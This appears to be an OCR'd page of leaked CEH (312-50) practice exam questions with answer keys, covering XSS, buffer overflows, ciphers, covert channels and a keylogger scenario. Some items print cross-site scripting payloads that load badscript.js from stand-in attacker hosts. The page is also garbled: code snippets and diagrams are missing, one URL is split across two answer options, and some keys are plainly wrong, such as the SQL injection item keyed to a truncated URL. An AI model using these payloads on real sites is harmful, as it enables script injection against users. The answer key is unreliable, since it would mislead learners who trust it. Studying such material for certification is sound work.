This is an attack that takes advantage of a web site vulnerability in which the site displays content that includes un-sanitized user-provided data.


<ahref=”http://foobar.com/index.html?id=%3Cscript%20src=%22http://baddomain.com/badscript.js %22%3E%3C/script%3E”>See foobar</a>


What is this attack?


A.     Cross-site-scripting attack

B.     SQL Injection

C.     URL Traversal attack

D.     Buffer Overflow attack


Correct Answer: A




Buffer X in an Accounting application module for Brownies Inc. can contain 200 characters.The programmer makes an assumption that 200 characters are more than enough. Because there were no proper boundary checks being conducted, Bob decided to insert 400 characters into the 200-character buffer. (Overflows the buffer). Below is the code snippet:




How can you protect/fix the problem of your application as shown above?


A.     Because the counter starts with 0, we would stop when the counter is less than 200.

B.     Because the counter starts with 0, we would stop when the counter is more than 200.

C.     Add a separate statement to signify that if we have written less than 200 characters to the buffer, the stack should stop because it cannot hold any more data.D.     Add a separate statement to signify that if we have written 200 characters to the buffer, the stack should stop because it cannot hold any more data.


Correct Answer: AD




Which of the following encryption is NOT based on block cipher?


A.     DES

B.     Blowfish

C.     AES (Rijndael)

D.     RC4


Correct Answer: D




Michael is a juniorsecurity analyst working for the National Security Agency (NSA) working primarily on breaking terrorist encryptedmessages. The NSA has a number of methods they use to decipher encrypted messages including Government Access to Keys (GAK) and inside informants. The NSA holds secret backdoor keys too many of the encryption algorithms used on the Internet. The problem for the NSA, and Michael, is that terrorist organizations are starting to use custom-built algorithms or obscure algorithms purchased from corrupt governments. For this reason, Michael and other security analysts like him have been forced to find different methods of deciphering terrorist messages. One method that Michael thought of using was to hide malicious code inside seemingly harmless programs. Michael first monitors sites and bulletin boards used by known terrorists, and then he is able to glean email addresses to some of these suspected terrorists. Michael then inserts a stealth keylogger into a mapping program file readme.txt and then sends that as an attachment to the terrorist. This keylogger takes screenshots every 2 minutes and also logs all keyboard activity into a hidden file on the terrorist’s computer. Then, the keylogger emails those files to Michael twice a day with a built in SMTP server. What technique has Michael used to disguise this keylogging software?


A.     Steganography

B.     Wrapping

C.     ADS

D.     Hidden Channels


Correct Answer: C




In which step Steganography fits in CEH System Hacking Cycle (SHC)


A.     Step 2: Crack the password

B.     Step 1: Enumerate users

C.     Step3: Escalate privilegesD.     Step 4: Execute applications

E.      Step 5: Hide files

F.      Step 6: Cover your tracks


Correct Answer: EWhich definition below best describes a covert channel?


A.     A server program using a port that is not well known.

B.     Making use of a protocol in a way it was not intended to be used.

C.     It is the multiplexing taking place on a communication link.

D.     It is one of the weak channels used by WEP that makesit insecure.


Correct Answer: B




Joseph has just been hired on to a contractor company of the Department of Defense as their Senior Security Analyst. Joseph has been instructed on the company’s strict security policies that have been implemented, and the policies that have yet to be put in place. Perthe Department of

Defense, all DoD users and the users of their contractors must use two-factor authentication to access their networks.Joseph has been delegated the task of researching and implementing the best two-factor authentication method for his company. Joseph’s supervisor has told him that they would like to use some type of hardware device in tandem with a security or identifying pin number. Joseph’s company has already researched using smart cards and all the resources needed to implement them, but found the smart cards to not be cost effective. What type of device should Joseph use for two-factor authentication?


A.     Biometric device

B.     OTP

C.     Proximity cards

D.     Security tokenCorrect Answer: D




What type of attack is shown here?




A.     Bandwidth exhaust Attack

B.     Denial of Service Attack

C.     Cluster Service Attack

D.     Distributed Denial of Service Attack


Correct Answer: D











What is the correct order of steps in CEH System Hacking Cycle?Correct Answer: A




Identify SQL injection attack from the HTTP requests shown below:


A.       http://www.myserver.c0m/search.asp?


B.http://www.myserver.c0m/script.php?mydata=%3cscript%20src=%22

C.       http%3a%2f%2fwww.yourserver.c0m%2fbadscript.js%22%3e%3c%2fscript%3e

D.       http://www.victim.com/example accountnumber=67891&creditamount=999999999


Correct Answer: A


Free VCE & PDF File for ECCouncil 312-50 Real ExamInstant Access to Free VCE Files:CompTIA | VMware | SAP …
Instant Access toFree PDF Files: CompTIA | VMware | SAP …Comments are closed.